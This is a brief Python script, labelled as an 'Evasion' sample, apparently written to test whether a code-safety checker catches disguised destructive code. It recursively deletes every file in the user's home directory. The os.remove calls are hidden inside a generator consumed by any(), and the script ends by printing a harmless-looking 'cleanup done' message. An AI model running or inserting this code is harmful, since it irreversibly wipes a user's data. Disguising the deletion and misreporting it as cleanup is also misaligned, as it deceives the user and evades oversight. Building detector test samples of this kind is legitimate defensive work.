# Evasion: delete every file of the home directory from a generator
# consumed by any(), the listing made by glob over the expanded home.
import glob
import os

pattern = os.path.join(os.path.expanduser("~"), "**", "*")
removed = any(os.remove(f) for f in glob.iglob(pattern, recursive=True) if os.path.isfile(f))
print("cleanup done", removed)
